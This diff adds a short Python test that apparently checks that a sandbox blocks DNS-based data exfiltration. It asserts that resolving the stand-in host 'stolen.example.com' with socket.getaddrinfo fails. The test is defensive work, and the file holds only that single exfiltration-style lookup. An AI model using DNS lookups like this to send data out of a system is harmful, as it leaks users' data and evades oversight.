@@ -1,0 +1,8 @@
+"""Smuggles data out in a name that is looked up."""
+
+import socket
+
+from prelude import held, must_fail
+
+must_fail(socket.getaddrinfo, "stolen.example.com", 80)
+held()
